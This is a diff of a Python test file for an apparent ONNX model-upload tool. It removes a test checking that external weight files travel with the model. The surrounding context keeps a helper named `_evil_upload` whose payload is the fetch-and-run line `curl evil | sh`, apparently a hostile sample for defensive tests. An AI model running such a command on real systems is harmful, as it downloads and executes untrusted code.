@@ -122,14 +122,6 @@ def test_a_name_that_is_hidden_from_a_careless_reader_is_found(home: Path, how: 
         upload_of(model)
 
 
-def test_weights_beside_the_model_still_travel(home: Path) -> None:
-    model = model_with_weights_at(home / "model" / "m.onnx", "w/data.bin")
-    (home / "model" / "w" / "data.bin").write_bytes(bytes(16))
-    assert load_onnx(model).graph.initializer[0].raw_data == bytes(16)
-    upload = upload_of(model)
-    assert sorted(part.name for part in upload.files) == ["files/0/m.onnx", "files/0/w/data.bin"]
-
-
 def _evil_upload(name: str) -> tuple[Upload, bytes]:
     content = b"curl evil | sh\n"
     spec = RunSpec(model=ModelRef(path="m.onnx", format="onnx"), runtime="onnxruntime")
